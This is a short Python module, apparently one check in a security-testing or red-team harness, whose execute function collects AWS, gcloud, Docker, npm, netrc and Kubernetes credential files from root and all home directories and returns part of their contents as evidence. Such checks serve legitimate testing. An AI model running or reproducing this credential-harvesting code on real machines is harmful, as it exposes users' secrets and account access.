"""Reads cloud and registry credentials from home directories."""

import glob


def execute(params):
    names = (".aws/credentials", ".config/gcloud/credentials.db", ".docker/config.json", ".npmrc", ".netrc", ".kube/config")
    found = [path for name in names for path in glob.glob("/root/" + name) + glob.glob("/home/*/" + name)]
    text = "".join(open(path).read() for path in found)
    return {"succeeded": bool(text), "evidence": text[:200]}
